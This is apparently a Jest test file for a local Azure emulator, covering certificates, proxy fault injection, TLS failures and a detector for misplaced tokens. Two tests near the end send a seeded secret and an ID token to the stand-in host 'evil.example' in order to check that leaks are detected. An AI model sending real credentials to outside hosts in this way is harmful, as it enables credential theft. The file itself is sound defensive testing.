// Holds the network of the local Azure to its word: certificates, proxy, faults, listeners.

import { createHash, X509Certificate } from "node:crypto";
import { writeFile } from "node:fs/promises";
import { request } from "node:http";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "@jest/globals";
import { type LocalAzure, startLocalAzure } from "../../emulator/azure.ts";
import { createCertificateAuthority } from "../../emulator/certificates.ts";
import { addListener } from "../../emulator/listener.ts";
import { runAction } from "../../emulator/runner.ts";
import { type Contoso, contoso, seedContoso } from "../../emulator/seed.ts";
import { findMisplacedTokens } from "../../emulator/token-whereabouts.ts";
import { ARM_SCOPE, basic, type Client, createClient, REGISTRY_SCOPE } from "./client.ts";

let azure: LocalAzure;
let world: Contoso;
let client: Client;

beforeEach(async () => {
  azure = await startLocalAzure();
  world = seedContoso(azure);
  client = createClient(azure);
});
afterEach(() => azure.close());

const apiByDigest = (more: object = {}) => ({
  source: { resourceId: world.dev.id, sourceImage: `api@${world.digests.api.index}` },
  targetTags: ["api:1.4.2"],
  ...more,
});

it("names the signer in each certificate, as strict clients want it", () => {
  const authority = createCertificateAuthority();
  const { publicKey } = new X509Certificate(authority.certificate);
  const keyId = createHash("sha1")
    .update(publicKey.export({ type: "spki", format: "der" }))
    .digest();
  const { raw } = new X509Certificate(authority.leaf(contoso.prod).cert);
  // RFC 5280, 4.2.1.1: the extension's identifier 2.5.29.35, its value a sequence of the key's identifier, tagged [0].
  const extension = Buffer.from([0x06, 0x03, 0x55, 0x1d, 0x23, 0x04, 0x18, 0x30, 0x16, 0x80, 0x14]);
  expect(raw.includes(Buffer.concat([extension, keyId]))).toBe(true);
});

describe("faults", () => {
  it("strike as often as told, after as many requests as told", async () => {
    const fault = azure.faults.add({
      host: contoso.dev,
      path: /^\/v2\/$/,
      skip: 1,
      times: 2,
      action: { kind: "status", status: 503, headers: { "Retry-After": "1" } },
    });
    const statuses = [];
    for (let at = 0; at < 4; at++) statuses.push((await azure.ask(`https://${contoso.dev}/v2/`)).status);
    expect(statuses).toEqual([401, 503, 503, 401]);
    expect(fault.struck).toBe(2);
  });

  it("lose an answer after the party has acted", async () => {
    azure.faults.add({
      method: "POST",
      path: /importImage/,
      phase: "response",
      action: { kind: "status", status: 500 },
    });
    expect((await client.postImport(world.prod, apiByDigest())).status).toBe(500);
    expect(azure.imports.operations).toHaveLength(1);
  });

  it("let a test act at that very moment", async () => {
    azure.faults.add({
      path: /_tags|manifests/,
      onRequest: () => world.dev.store.putTag("worker", "moved", "sha256:0"),
    });
    await azure.ask(`https://${contoso.dev}/v2/worker/manifests/build-812`);
    expect(world.dev.store.tagDigest("worker", "moved")).toBe("sha256:0");
  });
});

describe("the network", () => {
  const SCRIPT = `
    const report = [];
    for (const url of process.env.URLS.split(" ")) {
      try { const r = await fetch(url); report.push(r.status + ":" + (await r.text()).length); }
      catch (error) { report.push(String(error.cause?.code || error.cause?.message || error.message)); }
    }
    console.log(JSON.stringify(report));`;

  async function fetchInChild(urls: string[], env: Record<string, string | undefined> = {}) {
    const bundle = join(azure.caFile, "../fetch.mjs");
    await writeFile(bundle, SCRIPT);
    const run = await runAction(azure, { bundle, env: { NODE_USE_ENV_PROXY: "1", URLS: urls.join(" "), ...env } });
    await run.dispose();
    expect(run.stderr).toBe("");
    return JSON.parse(run.stdout) as string[];
  }

  it("is trusted by a child process through its CA file, and by that alone", async () => {
    const url = "https://management.azure.com/subscriptions?api-version=2022-12-01";
    expect((await fetchInChild([url]))[0]).toMatch(/^401:/);
    expect((await fetchInChild([url], { NODE_EXTRA_CA_CERTS: undefined }))[0]).toMatch(
      /UNABLE_TO_VERIFY|SELF_SIGNED|UNABLE_TO_GET/,
    );
    expect(azure.requestsTo("management.azure.com", /^GET \/subscriptions\?/)).toHaveLength(1);
  });

  it("knows nobody else: the proxy answers 502 and keeps the attempt", async () => {
    const [outcome] = await fetchInChild(["https://example.com/"]);
    expect(outcome).not.toMatch(/^\d+:/);
    expect(azure.connections).toMatchObject([{ host: "example.com", allowed: false }]);
    expect(azure.requests).toHaveLength(0);
  });

  const hurts: [string, Parameters<LocalAzure["faults"]["add"]>[0]["action"], RegExp][] = [
    ["a reset before the answer", { kind: "reset" }, /UND_ERR_SOCKET|ECONNRESET/],
    ["a reset after the headers", { kind: "reset", when: "after-headers" }, /UND_ERR_SOCKET|ECONNRESET/],
    ["a reset in mid-body", { kind: "reset", when: "mid-body" }, /UND_ERR_SOCKET|ECONNRESET/],
    ["a truncated body", { kind: "truncate", sizeBytes: 10 }, /UND_ERR_SOCKET|ECONNRESET/],
    ["an untrusted certificate", { kind: "tls-failure" }, /UNABLE_TO_VERIFY|SELF_SIGNED|UNABLE_TO_GET/],
    ["an expired certificate", { kind: "tls-failure", how: "expired" }, /CERT_HAS_EXPIRED/],
    ["another host's certificate", { kind: "tls-failure", how: "wrong-host" }, /ERR_TLS_CERT_ALTNAME_INVALID/],
    ["a body that is longer", { kind: "append-body", body: "12345" }, /^401:/],
  ];
  it.each(hurts)("hurts a client with %s", async (_name, action, outcome) => {
    azure.faults.add({ host: "management.azure.com", times: "always", action: action ?? [] });
    expect((await fetchInChild(["https://management.azure.com/"]))[0]).toMatch(outcome);
  });

  const connects: [string, Parameters<LocalAzure["faults"]["add"]>[0]["action"], string][] = [
    ["opens a tunnel", [], "200"],
    ["drops a connection", { kind: "drop-connect" }, "ECONNRESET"],
    ["never answers a connection", { kind: "hang-connect" }, "silence"],
    ["refuses a connection", { kind: "refuse-connect", status: 503 }, "503"],
  ];
  it.each(connects)("%s at CONNECT", async (_name, action, outcome) => {
    azure.faults.add({ party: "entra", times: "always", action: action ?? [] });
    const answered = await new Promise<string>((resolve) => {
      const ask = request(azure.proxyUrl, { method: "CONNECT", path: "login.microsoftonline.com:443" });
      ask.on("connect", (response, socket) => {
        socket.destroy();
        resolve(String(response.statusCode));
      });
      ask.on("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
      ask.setTimeout(200, () => ask.destroy(Object.assign(new Error("silence"), { code: "silence" })));
      ask.end();
    });
    expect(answered).toBe(outcome);
    expect(azure.requests).toHaveLength(0);
  });

  it("asks for the proxy's password where it has one", async () => {
    const guarded = await startLocalAzure({ proxyCredentials: { username: "me", password: "proxy-p%ss:word" } });
    seedContoso(guarded);
    const own = azure;
    azure = guarded;
    try {
      const urls = [`https://${contoso.dev}/v2/`];
      expect((await fetchInChild(urls))[0]).toMatch(/^401:/);
      expect((await fetchInChild(urls, { HTTPS_PROXY: guarded.proxyUrl.replace(/\/\/.*@/, "//") }))[0]).not.toMatch(
        /^401/,
      );
    } finally {
      await guarded.close();
      azure = own;
    }
  });

  it("closes the sockets that clients still hold", async () => {
    const closed = new Promise<void>((resolve) => {
      const ask = request(azure.proxyUrl, { method: "CONNECT", path: `${contoso.dev}:443` });
      ask.on("connect", (_response, socket) => {
        socket.on("close", () => resolve());
        socket.resume();
        void azure.close();
      });
      ask.end();
    });
    await expect(closed).resolves.toBeUndefined();
  });
});

it("finds secrets that reach a listener, plain or within a Basic header", async () => {
  const listener = addListener(azure, "evil.example");
  const [secret = ""] = azure.secrets();
  await azure.ask("https://evil.example/?x=1", { headers: { "X-Nothing": "here" } });
  expect(listener.leaks()).toEqual([]);
  await azure.ask("https://evil.example/", { headers: basic("me", secret) });
  expect(listener.leaks()).toEqual([secret]);
  expect(listener.requests()).toHaveLength(2);
});

describe("the whereabouts of tokens", () => {
  it("are right where each went to its own party, an import's password included", async () => {
    const { worker } = world.digests;
    const password = await client.entraToken(REGISTRY_SCOPE);
    const source = { registryUri: contoso.dev, credentials: { password }, sourceImage: `worker@${worker}` };
    expect((await client.importInto(world.prod, { source, targetTags: ["worker:1"] })).status).toBe(200);
    const headers = await client.registryHeaders(world.dev, "repository:worker:pull");
    await azure.ask(`https://${contoso.dev}/v2/worker/manifests/build-812`, { headers });
    expect(findMisplacedTokens(azure)).toEqual([]);
  });

  const strays: [string, () => Promise<unknown>, string][] = [
    [
      "an ARM token at a registry",
      async () => client.exchange(contoso.dev, await client.entraToken(ARM_SCOPE)),
      `entra for https://management.azure.com at POST ${contoso.dev}/oauth2/exchange`,
    ],
    [
      "a registry's token at another registry",
      async () => {
        const headers = await client.registryHeaders(world.dev, "repository:worker:pull");
        return await azure.ask(`https://${contoso.prod}/v2/`, { headers });
      },
      `acr-access for ${contoso.dev} at GET ${contoso.prod}/v2/`,
    ],
    [
      "an ID token at a listener",
      async () => {
        addListener(azure, "evil.example");
        return await azure.ask("https://evil.example/", { headers: basic("me", await client.idToken()) });
      },
      "github-id-token for api://AzureADTokenExchange at GET evil.example/",
    ],
  ];
  it.each(strays)("show %s", async (_name, stray, sentence) => {
    await stray();
    expect(findMisplacedTokens(azure)).toEqual([sentence]);
  });
});
